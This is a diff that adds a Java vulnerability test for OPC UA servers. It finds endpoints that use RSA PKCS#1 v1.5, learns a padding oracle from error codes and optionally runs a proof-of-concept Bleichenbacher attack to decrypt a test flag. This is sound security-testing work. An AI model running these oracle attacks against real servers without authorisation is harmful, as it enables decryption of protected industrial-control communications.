@@ -0,0 +1,222 @@
+package vulntest.bleichenbacher;
+
+import attacks.CipherTextUtility;
+import attacks.bleichenbacher.BleichenbachersAttack;
+import attacks.bleichenbacher.oracle.learner.Pkcs1ErrorCodeOracleLearner;
+import attacks.manger.oracle.Oracle;
+import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.VictimProxy;
+import attacks.manger.oracle.learner.LearningResult;
+import attacks.manger.oracle.learner.OracleLearner;
+import opcua.context.Endpoint;
+import opcua.context.LocalKeyPair;
+import opcua.context.StaticConfig;
+import opcua.encoding.EncodingException;
+import opcua.model.type.EndpointDescription;
+import opcua.security.MessageSecurityMode;
+import opcua.security.PKCS1Utility;
+import opcua.security.SecurityAlgorithm;
+import opcua.util.CommonMessageFlows;
+import opcua.util.MessageUtility;
+import reporting.Report;
+import reporting.entry.*;
+import transport.TransportException;
+import transport.netty.NettyTransport;
+import transport.nio.NioEventLoop;
+import transport.tcp.ConnectionPool;
+import vulntest.ProofOfConceptUtility;
+import vulntest.VulnerabilityTest;
+
+import java.io.IOException;
+import java.time.Duration;
+import java.time.LocalDateTime;
+import java.time.temporal.ChronoUnit;
+import java.util.*;
+
+/**
+ * Tests a server regarding their vulnerability to Bleichenbacher's attack
+ */
+public class BleichenbacherVulnerabilityTest implements VulnerabilityTest {
+    private final LocalKeyPair localKeyPair;
+    private final boolean performProofOfConceptAttacks;
+    private final int numberOfAttempts;
+    private final List<OracleLearner> oracleLearners;
+    private boolean useNetty;
+
+    /**
+     * Constructor for a default configuration, creates a self-signed certificate
+     */
+    public BleichenbacherVulnerabilityTest() {
+        this(false, 10);
+    }
+
+    /**
+     * Constructor. Uses a self-signed certificate
+     * @param performProofOfConceptAttacks Whether proof-of-concept attacks shall be performed
+     * @param numberOfAttempts Maximum number of attempts for proof-of-concept attacks
+     */
+    public BleichenbacherVulnerabilityTest(boolean performProofOfConceptAttacks, int numberOfAttempts) {
+        this(LocalKeyPair.generateSelfSigned(StaticConfig.CERT_KEYSIZE, StaticConfig.CERT_NAME), performProofOfConceptAttacks, numberOfAttempts);
+    }
+
+    /**
+     * Constructor
+     * @param localKeyPair Local certificate
+     * @param performProofOfConceptAttacks Whether proof-of-concept attacks shall be performed
+     * @param numberOfAttempts Maximum number of attempts for proof-of-concept attacks
+     */
+    public BleichenbacherVulnerabilityTest(LocalKeyPair localKeyPair, boolean performProofOfConceptAttacks, int numberOfAttempts) {
+        this(localKeyPair, performProofOfConceptAttacks, numberOfAttempts, defaultOracleLearners(localKeyPair));
+    }
+
+    /**
+     * Constructor
+     * @param localKeyPair Local certificate
+     * @param performProofOfConceptAttacks Whether proof-of-concept attacks shall be performed
+     * @param numberOfAttempts Maximum number of attempts for proof-of-concept attacks
+     * @param oracleLearners The set of oracle learners that are used to find specific vulnerabilities
+     */
+    public BleichenbacherVulnerabilityTest(LocalKeyPair localKeyPair, boolean performProofOfConceptAttacks, int numberOfAttempts, List<OracleLearner> oracleLearners) {
+        this.localKeyPair = localKeyPair;
+        this.performProofOfConceptAttacks = performProofOfConceptAttacks;
+        this.numberOfAttempts = numberOfAttempts;
+        this.oracleLearners = oracleLearners;
+    }
+
+    public boolean isUseNetty() {
+        return useNetty;
+    }
+
+    /**
+     * Sets whether the asynchronous queries of proof-of-concept attacks use the shared Netty transport instead of an
+     * NIO event loop. Attacks with oracles that use response times are not affected.
+     */
+    public void setUseNetty(boolean useNetty) {
+        this.useNetty = useNetty;
+    }
+
+    private static List<OracleLearner> defaultOracleLearners(LocalKeyPair localKeyPair) {
+        List<OracleLearner> oracleLearners = new ArrayList<>();
+        oracleLearners.add(new Pkcs1ErrorCodeOracleLearner(localKeyPair, 100));
+        return oracleLearners;
+    }
+
+    @Override
+    public Report performTest(Endpoint endpoint) {
+        LocalDateTime startTimestamp = LocalDateTime.now();
+        Report report = new Report();
+
+        //Find suitable endpoints
+        EndpointDescription[]  endpointDescriptions;
+        try {
+            endpointDescriptions = CommonMessageFlows.retrieveEndpointDescriptions(endpoint);
+        } catch (TransportException e) {
+            report.getRootEntry().addSubEntry(new ThrowableEntry(e));
+            return report;
+        }
+        EndpointDescription[] suitableEndpoints = filterSuitableEndpoints(endpointDescriptions);
+
+        report.getRootEntry().addSubEntry(new SingleStringEntry("Found " + endpointDescriptions.length + " endpoints. "
+                + suitableEndpoints.length + " of which are potentially suitable for Bleichenbacher's attack."));
+
+        //try to learn oracles
+        for(int i=0; i<suitableEndpoints.length; i++) {
+            Group endpointGroup = new Group("Endpoint " + (i+1) + ": " + suitableEndpoints[i].getSecurityPolicy() + "(" + suitableEndpoints[i].getEndpointUrl() + ")");
+            try {
+                testEndpoint(endpoint.getHostName(), endpoint.getPort(), suitableEndpoints[i], endpointGroup);
+            } catch (OracleException e) {
+                endpointGroup.addSubEntry(new ThrowableEntry(e));
+            }
+            report.getRootEntry().addSubEntry(endpointGroup);
+        }
+
+        LocalDateTime finishTimestamp = LocalDateTime.now();
+        long seconds = ChronoUnit.SECONDS.between(startTimestamp, finishTimestamp);
+
+        Group reportInfos = new Group("General report information");
+        reportInfos.addSubEntry(new DateTimeEntry("Started at", startTimestamp));
+        reportInfos.addSubEntry(new DateTimeEntry("Finished at", finishTimestamp));
+        reportInfos.addSubEntry(new DurationEntry("Elapsed time", Duration.of(seconds, ChronoUnit.SECONDS)));
+        report.getRootEntry().addSubEntry(reportInfos);
+
+        return report;
+    }
+
+    private static EndpointDescription[] filterSuitableEndpoints(EndpointDescription[] endpointDescriptions) {
+        Set<EndpointDescription> endpoints = new HashSet<>(Set.of(endpointDescriptions));
+        endpoints.removeIf((EndpointDescription ed) ->
+                !(ed.getSecurityMode() == MessageSecurityMode.SIGN_AND_ENCRYPT &&
+                    ed.getSecurityPolicy().getAsymmetricEncryption() == SecurityAlgorithm.RSA_15)
+        );
+        return endpoints.toArray(new EndpointDescription[0]);
+    }
+
+    private void testEndpoint(String hostName, int port, EndpointDescription endpointDescription, Group reportingGroup) throws OracleException {
+        if(oracleLearners.isEmpty()) {
+            reportingGroup.addSubEntry(new SingleStringEntry("No OracleLearners specified"));
+        }
+
+        Endpoint endpoint = new Endpoint(
+                hostName,
+                port,
+                endpointDescription.getEndpointUrl(),
+                endpointDescription.getServerCertificate(),
+                endpointDescription.getSecurityPolicy(),
+                endpointDescription.getSecurityMode()
+        );
+
+        for(OracleLearner oracleLearner : oracleLearners) {
+            LearningResult result = oracleLearner.learn(endpoint);
+            if (performProofOfConceptAttacks && result.isSuccessful()) {
+                result.getReport().addSubEntry(ProofOfConceptUtility.attack(numberOfAttempts,
+                        (attempt, attackReport) -> proofOfConceptAttack(endpoint, result.getOracle(), attackReport)));
+            }
+            reportingGroup.addSubEntry(result.getReport());
+        }
+    }
+
+    private boolean proofOfConceptAttack(Endpoint endpoint, Oracle oracle, Entry report) {
+        ConnectionPool connectionPool = new ConnectionPool(endpoint);
+        NioEventLoop eventLoop = null;
+        try {
+            // Event loop queries have less precise response times
+            if(!oracle.usesResponseTimes() && !useNetty) {
+                eventLoop = new NioEventLoop("PoC Event Loop");
+            }
+            ProofOfConceptUtility.Flag flag = ProofOfConceptUtility.createFlag(endpoint, localKeyPair);
+            VictimProxy victimProxy = ProofOfConceptUtility.createVictimProxy(endpoint, flag, connectionPool, eventLoop);
+            if(!oracle.usesResponseTimes() && useNetty) {
+                victimProxy.setNettyTransport(NettyTransport.shared());
+            }
+            oracle.setVictimProxy(victimProxy);
+            BleichenbachersAttack attack = new BleichenbachersAttack(CipherTextUtility.extractCipherBlock(flag.getCiphertext(), 0, localKeyPair.getPublicKey()), oracle, endpoint.getPublicKey());
+
+            byte[] recoveredFlag = null;
+            Exception failure = null;
+            try {
+                byte[] pkcs1EncodedPlaintext = attack.executeAttack();
+                recoveredFlag = MessageUtility.extractClientNonce(PKCS1Utility.decode(pkcs1EncodedPlaintext));
+            } catch (OracleException | EncodingException e) {
+                failure = e;
+            }
+
+            boolean successful = ProofOfConceptUtility.reportResult(flag, recoveredFlag, attack.getQueryCount(), report);
+            ProofOfConceptUtility.reportTraffic(oracle, victimProxy, report);
+            if(failure != null) {
+                report.addSubEntry(new ThrowableEntry(failure));
+            }
+            return successful;
+        }
+        catch (IOException | EncodingException e) {
+            report.addSubEntry(new SingleStringEntry("Unable to set up proof-of-concept attack"));
+            report.addSubEntry(new ThrowableEntry(e));
+            return false;
+        }
+        finally {
+            connectionPool.close();
+            if(eventLoop != null) {
+                eventLoop.close();
+            }
+        }
+    }
+}